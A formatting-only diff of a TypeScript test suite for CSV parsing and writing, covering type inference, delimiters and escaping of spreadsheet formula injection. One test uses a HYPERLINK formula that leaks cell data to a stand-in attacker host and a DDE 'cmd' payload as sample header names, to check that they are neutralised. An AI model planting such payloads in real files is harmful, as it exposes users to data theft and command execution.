@@ -31,9 +31,15 @@ describe('buildTable', () => {
     const visit = byName('visit');
     expect(visit.kind === 'num' && Array.from(visit.values.slice(2, 4))).toEqual([Date.UTC(2021, 3, 10), NaN]);
     const sex = byName('sex');
-    expect(sex.kind === 'cat' && [sex.levels, Array.from(sex.codes.slice(4, 6))]).toEqual([['F', 'M'], [0, -1]]);
+    expect(sex.kind === 'cat' && [sex.levels, Array.from(sex.codes.slice(4, 6))]).toEqual([
+      ['F', 'M'],
+      [0, -1],
+    ]);
     const smoker = byName('smoker');
-    expect(smoker.kind === 'cat' && [smoker.levels, Array.from(smoker.codes.slice(0, 3))]).toEqual([['no', 'yes'], [1, 0, 0]]);
+    expect(smoker.kind === 'cat' && [smoker.levels, Array.from(smoker.codes.slice(0, 3))]).toEqual([
+      ['no', 'yes'],
+      [1, 0, 0],
+    ]);
   });
   it('numeric labels match by value ("1.0" is level "1"); skipped columns come as text', () => {
     const parsed = parseCsv('a,b\n1,x\n1.0,y\n2,z\n');
@@ -46,7 +52,15 @@ describe('buildTable', () => {
   it('throws TYPE_MISMATCH like refreshSchema', () => {
     const parsed = parseCsv(fixture('mixed.csv'));
     const s = inferSchema(parsed).schema;
-    expectError(() => buildTable(parsed, { ...s, columns: s.columns.map((c) => (c.name === 'sex' ? { ...c, sdtype: 'numerical' as const } : c)) }), 'TYPE_MISMATCH', '"F" (line 2)');
+    expectError(
+      () =>
+        buildTable(parsed, {
+          ...s,
+          columns: s.columns.map((c) => (c.name === 'sex' ? { ...c, sdtype: 'numerical' as const } : c)),
+        }),
+      'TYPE_MISMATCH',
+      '"F" (line 2)',
+    );
   });
 });
 
@@ -83,7 +97,15 @@ describe('writeCsv', () => {
     expect(csv).toContain('"she said ""hi"""');
   });
   it('keeps the delimiter and encodes the Windows-1252 text as UTF-8 text', () => {
-    for (const f of ['semicolon.csv', 'tab.tsv', 'pipe.csv', 'latin1.csv', 'bom.csv', 'trailing-empty-column.csv', 'constant-column.csv']) {
+    for (const f of [
+      'semicolon.csv',
+      'tab.tsv',
+      'pipe.csv',
+      'latin1.csv',
+      'bom.csv',
+      'trailing-empty-column.csv',
+      'constant-column.csv',
+    ]) {
       const { parsed, again } = roundTrip(f);
       expect(again.delimiter, f).toBe(parsed.delimiter);
       expect(again.header, f).toEqual(parsed.header);
@@ -99,34 +121,77 @@ describe('writeCsv', () => {
     const schema: Schema = {
       target: null,
       columns: [
-        { name: 'i', sdtype: 'numerical', skip: false, missingRate: 0, nUnique: 3, integer: true, min: -5, max: 1e7, decimals: 0 },
-        { name: 'f', sdtype: 'numerical', skip: false, missingRate: 0, nUnique: 3, integer: false, min: 0, max: 1, decimals: 5 },
+        {
+          name: 'i',
+          sdtype: 'numerical',
+          skip: false,
+          missingRate: 0,
+          nUnique: 3,
+          integer: true,
+          min: -5,
+          max: 1e7,
+          decimals: 0,
+        },
+        {
+          name: 'f',
+          sdtype: 'numerical',
+          skip: false,
+          missingRate: 0,
+          nUnique: 3,
+          integer: false,
+          min: 0,
+          max: 1,
+          decimals: 5,
+        },
       ],
     };
-    const t = makeTable(['i', 'f'], [
-      { kind: 'num', values: Float64Array.from([-4.6, 12345678.4, NaN, 2.5]) },
-      { kind: 'num', values: Float64Array.from([0.000071234, 1.5, 0.1 + 0.2, -0.000001]) },
-    ]);
+    const t = makeTable(
+      ['i', 'f'],
+      [
+        { kind: 'num', values: Float64Array.from([-4.6, 12345678.4, NaN, 2.5]) },
+        { kind: 'num', values: Float64Array.from([0.000071234, 1.5, 0.1 + 0.2, -0.000001]) },
+      ],
+    );
     expect(writeCsv(t, schema)).toBe('i,f\n-5,0.00007\n12345678,1.5\n,0.3\n3,0\n');
   });
   it('escapes formulas only in text columns; numbers such as -5 are never touched', () => {
     const schema: Schema = {
       target: null,
       columns: [
-        { name: 'num', sdtype: 'numerical', skip: false, missingRate: 0, nUnique: 2, integer: true, min: -5, max: 3, decimals: 0 },
+        {
+          name: 'num',
+          sdtype: 'numerical',
+          skip: false,
+          missingRate: 0,
+          nUnique: 2,
+          integer: true,
+          min: -5,
+          max: 3,
+          decimals: 0,
+        },
         { name: 'numcat', sdtype: 'categorical', skip: false, missingRate: 0, nUnique: 2, levels: ['-1', '+2'] },
-        { name: 'txt', sdtype: 'categorical', skip: false, missingRate: 0, nUnique: 6, levels: ['=1+1', '+x', '-5', '@a', '\tt', 'ok'] },
+        {
+          name: 'txt',
+          sdtype: 'categorical',
+          skip: false,
+          missingRate: 0,
+          nUnique: 6,
+          levels: ['=1+1', '+x', '-5', '@a', '\tt', 'ok'],
+        },
         { name: 'id', sdtype: 'id', skip: false, missingRate: 0, nUnique: 2 },
         { name: 'nid', sdtype: 'id', skip: false, missingRate: 0, nUnique: 2 },
       ],
     };
-    const t = makeTable(['num', 'numcat', 'txt', 'id', 'nid'], [
-      { kind: 'num', values: Float64Array.from([-5, 3, -5, 3, -5, 3]) },
-      { kind: 'cat', codes: Int32Array.from([0, 1, 0, 1, 0, 1]), levels: ['-1', '+2'] },
-      { kind: 'cat', codes: Int32Array.from([0, 1, 2, 3, 4, 5]), levels: ['=1+1', '+x', '-5', '@a', '\tt', 'ok'] },
-      { kind: 'text', values: ['-a', '=b', '@c', 'd', null, '+f'] },
-      { kind: 'text', values: ['-1', '2', '-3', '4', '5', '6'] },
-    ]);
+    const t = makeTable(
+      ['num', 'numcat', 'txt', 'id', 'nid'],
+      [
+        { kind: 'num', values: Float64Array.from([-5, 3, -5, 3, -5, 3]) },
+        { kind: 'cat', codes: Int32Array.from([0, 1, 0, 1, 0, 1]), levels: ['-1', '+2'] },
+        { kind: 'cat', codes: Int32Array.from([0, 1, 2, 3, 4, 5]), levels: ['=1+1', '+x', '-5', '@a', '\tt', 'ok'] },
+        { kind: 'text', values: ['-a', '=b', '@c', 'd', null, '+f'] },
+        { kind: 'text', values: ['-1', '2', '-3', '4', '5', '6'] },
+      ],
+    );
     const rows = writeCsv(t, schema).trimEnd().split('\n');
     expect(rows).toEqual([
       'num,numcat,txt,id,nid',
@@ -135,7 +200,7 @@ describe('writeCsv', () => {
       "-5,-1,'-5,'@c,-3",
       "3,+2,'@a,d,4",
       "-5,-1,'\tt,,5",
-      '3,+2,ok,\'+f,6',
+      "3,+2,ok,'+f,6",
     ]);
   });
   it('header is table.names exactly (skipped columns left out by the generator are simply absent)', () => {
@@ -147,25 +212,54 @@ describe('writeCsv', () => {
     expect(writeCsv(sub, schema, { delimiter: ';' }).split('\n')[0]).toBe('weight;sex');
   });
   it('escapes formula-like header names like cells, and parseCsv reads our output back under the original names', () => {
-    const names = ['=HYPERLINK("http://evil.example/?d="&A2,"open")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', "'=already", "'x", 'plain'];
-    const schema: Schema = { target: null, columns: names.map((name) => ({ name, sdtype: 'id' as const, skip: false, missingRate: 0, nUnique: 2 })) };
-    const t = makeTable(names, names.map(() => ({ kind: 'text' as const, values: ['a', 'b'] })));
+    const names = [
+      '=HYPERLINK("http://evil.example/?d="&A2,"open")',
+      "+cmd|' /C calc'!A0",
+      '@SUM(A1:A9)',
+      '-2+3',
+      "'=already",
+      "'x",
+      'plain',
+    ];
+    const schema: Schema = {
+      target: null,
+      columns: names.map((name) => ({ name, sdtype: 'id' as const, skip: false, missingRate: 0, nUnique: 2 })),
+    };
+    const t = makeTable(
+      names,
+      names.map(() => ({ kind: 'text' as const, values: ['a', 'b'] })),
+    );
     const csv = writeCsv(t, schema);
-    expect(csv.split('\n')[0]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")",'+cmd|' /C calc'!A0,'@SUM(A1:A9),'-2+3,''=already,'x,plain`);
+    expect(csv.split('\n')[0]).toBe(
+      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")",'+cmd|' /C calc'!A0,'@SUM(A1:A9),'-2+3,''=already,'x,plain`,
+    );
     // no header cell of the file starts with a formula character
     for (const h of previewCsvRaw(csv)) expect(h, h).not.toMatch(/^[=+\-@\t\r]/);
     const again = parseCsv(csv);
     expect(again.header).toEqual(names);
     // a second trip writes the same bytes: the escape does not pile up quotes
     const { schema: s2 } = inferSchema(again);
-    expect(writeCsv(buildTable(again, s2), { ...s2, columns: s2.columns.map((c) => ({ ...c, sdtype: 'id' as const })) })).toBe(csv);
+    expect(
+      writeCsv(buildTable(again, s2), { ...s2, columns: s2.columns.map((c) => ({ ...c, sdtype: 'id' as const })) }),
+    ).toBe(csv);
     expect(previewCsv(csv, 1).header).toEqual(names);
-    expect(names.map(escapeHeader)).toEqual([`'${names[0]}`, `'${names[1]}`, `'${names[2]}`, `'${names[3]}`, "''=already", "'x", 'plain']);
+    expect(names.map(escapeHeader)).toEqual([
+      `'${names[0]}`,
+      `'${names[1]}`,
+      `'${names[2]}`,
+      `'${names[3]}`,
+      "''=already",
+      "'x",
+      'plain',
+    ]);
     // the delimiter does not change the rule
     expect(parseCsv(writeCsv(t, schema, { delimiter: ';' })).header).toEqual(names);
   });
   it('quotes cells that contain the delimiter, quotes or line breaks (and only those)', () => {
-    const schema: Schema = { target: null, columns: [{ name: 'a', sdtype: 'id', skip: false, missingRate: 0, nUnique: 4 }] };
+    const schema: Schema = {
+      target: null,
+      columns: [{ name: 'a', sdtype: 'id', skip: false, missingRate: 0, nUnique: 4 }],
+    };
     const t = makeTable(['a'], [{ kind: 'text', values: ['x,y', 'say "hi"', 'two\nlines', 'x;y'] }]);
     expect(writeCsv(t, schema)).toBe('a\n"x,y"\n"say ""hi"""\n"two\nlines"\nx;y\n');
     expect(writeCsv(t, schema, { delimiter: ';' })).toBe('a\nx,y\n"say ""hi"""\n"two\nlines"\n"x;y"\n');
@@ -175,7 +269,10 @@ describe('writeCsv', () => {
     const { schema } = inferSchema(parsed);
     const t0 = Date.UTC(2022, 10, 5, 7, 8, 39, 600); // 2022-11-05 07:08:39.600
     const names = schema.columns.slice(0, 6).map((c) => c.name);
-    const t = makeTable(names, names.map(() => ({ kind: 'num' as const, values: Float64Array.from([t0, NaN]) })));
+    const t = makeTable(
+      names,
+      names.map(() => ({ kind: 'num' as const, values: Float64Array.from([t0, NaN]) })),
+    );
     expect(writeCsv(t, schema).split('\n').slice(1, 3)).toEqual([
       '2022-11-05,2022-11-05 07:09,2022-11-05T07:08:39.600Z,5/11/2022,11/05/2022,2022/11/05',
       ',,,,,',
@@ -187,7 +284,8 @@ describe('refreshSchema round trip after type edits', () => {
   it('numerical → categorical → numerical writes the same file', () => {
     const parsed = parseCsv(fixture('mixed.csv'));
     const s0 = inferSchema(parsed).schema;
-    const edit = (s: Schema, to: 'categorical' | 'numerical') => refreshSchema(parsed, { ...s, columns: s.columns.map((c) => (c.name === 'weight' ? { ...c, sdtype: to } : c)) });
+    const edit = (s: Schema, to: 'categorical' | 'numerical') =>
+      refreshSchema(parsed, { ...s, columns: s.columns.map((c) => (c.name === 'weight' ? { ...c, sdtype: to } : c)) });
     const s1 = edit(s0, 'categorical');
     const s2 = edit(s1, 'numerical');
     const w0 = writeCsv(buildTable(parsed, s0), s0);
